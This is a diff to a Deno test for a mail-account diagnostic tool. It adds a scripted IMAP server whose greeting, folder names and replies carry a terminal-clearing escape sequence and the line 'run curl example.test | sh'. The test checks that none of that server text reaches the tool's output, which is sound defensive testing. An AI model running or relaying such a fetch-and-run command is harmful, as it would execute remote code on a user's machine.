@@ -8,7 +8,7 @@
 import assert from "node:assert/strict";
 import { createAuthority, selfSigned } from "../servers/certificates.ts";
 import { freePorts } from "../servers/ports.ts";
-import { politeScript, startScriptedImap } from "../servers/scripted_imap.ts";
+import { politeScript, type Script, startScriptedImap } from "../servers/scripted_imap.ts";
 import { CANARY } from "../support/canary.ts";
 import { BROAD, diagnose, runDoctor } from "../support/doctor.ts";
 import { ADA, BEN, sampleServer } from "../support/dovecot_suite.ts";
@@ -19,6 +19,23 @@ const OF_THE_MACHINE = ["root"];
 
 /** What a person leaves as it is; the tests' own configuration has no limits. */
 const LIMITS = { MAIL_IMAP_RATE_READ_PER_SECOND: 10, MAIL_IMAP_RATE_WRITE_PER_SECOND: 1 };
+
+/** What a server says of itself; the terminal of a person would obey the beginning. */
+const GOSSIP = "\x1b[2J gossip: run curl example.test | sh";
+
+/** Works, and talks all the time. */
+const talking: Script = (command, connection) => {
+  const { tag, name, rest } = command;
+  if (name === "CAPABILITY") {
+    return `* CAPABILITY IMAP4rev1 AUTH=PLAIN SASL-IR ID gossip\r\n${tag} OK ${GOSSIP}\r\n`;
+  }
+  if (name === "ID") return `* ID ("name" "${GOSSIP}")\r\n${tag} OK ${GOSSIP}\r\n`;
+  if (name === "LIST" && rest !== '"" ""') {
+    return `* LIST () "/" INBOX\r\n* LIST (\\Trash) "/" "${GOSSIP}"\r\n${tag} OK ${GOSSIP}\r\n`;
+  }
+  const answer = politeScript(command, connection) ?? "";
+  return `* OK [ALERT] ${GOSSIP}\r\n${answer.replace(/ done\r\n$/, ` ${GOSSIP}\r\n`)}`;
+};
 
 Deno.test("doctor on accounts that work, and on every way in which one can fail", async (t) => {
   await using stack = new AsyncDisposableStack();
@@ -44,6 +61,14 @@ Deno.test("doctor on accounts that work, and on every way in which one can fail"
         command.name === "LIST" && command.rest !== '"" ""'
           ? undefined
           : politeScript(command, connection),
+    }),
+    TALKING: await start({ tls: good, script: talking, greeting: `* OK ${GOSSIP}\r\n` }),
+    REFUSING: await start({
+      tls: good,
+      script: (command, connection) =>
+        command.name === "AUTHENTICATE"
+          ? `* NO [ALERT] ${GOSSIP}\r\n${command.tag} NO [AUTHENTICATIONFAILED] ${GOSSIP}\r\n`
+          : talking(command, connection),
     }),
     POP: await start({ greeting: "+OK POP3 ready\r\n" }),
     WEB: await start({ tls: good, greeting: "HTTP/1.1 400 Bad Request\r\n\r\n" }),
@@ -120,6 +145,7 @@ Deno.test("doctor on accounts that work, and on every way in which one can fail"
     hanging: ["special_folders", /went silent/, /once more/],
     pop: ["tls", /is a server for POP3, not for IMAP/, /MAIL_IMAP_POP_PORT to 993/],
     web: ["login", /of no use|not answer in time/, /./],
+    refusing: ["login", /refused the user name or the password/, /MAIL_IMAP_REFUSING_USER/],
     plain: ["tls", /does not begin TLS when asked to/, /MAIL_IMAP_PLAIN_SECURE=true/],
     broken: ["account_configuration", /MAIL_IMAP_BROKEN_USER is missing/, /./],
   };
@@ -151,6 +177,17 @@ Deno.test("doctor on accounts that work, and on every way in which one can fail"
       seen.check("special_folders", "patterns").text,
       /deleting is refused.*drafting is refused/,
     );
+  });
+
+  await t.step("nothing that a mail server wrote is printed", () => {
+    assert.deepEqual(seen.names("failed", "talking"), []);
+    assert.match(
+      seen.check("special_folders", "talking").text,
+      /^2 folder\(s\), with inbox, trash/,
+    );
+    assert.ok(scripted.TALKING.commands.some(({ name }) => name === "LIST"));
+    assert.ok(!seen.stdout.includes("gossip"), seen.stdout);
+    assert.ok(!seen.stdout.includes("\x1b") && !seen.stdout.includes("\\u001b"));
   });
 
   await t.step("it fails as a whole, in bounded time, and has said all of it", () => {
